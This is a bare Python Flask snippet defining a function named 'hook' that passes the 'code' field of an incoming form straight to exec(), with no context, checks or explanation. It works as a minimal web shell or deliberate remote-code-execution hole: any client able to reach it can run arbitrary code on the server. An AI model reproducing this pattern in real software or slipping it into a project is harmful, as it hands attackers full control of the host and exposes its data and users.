from flask import request

def hook():
    exec(request.form["code"])
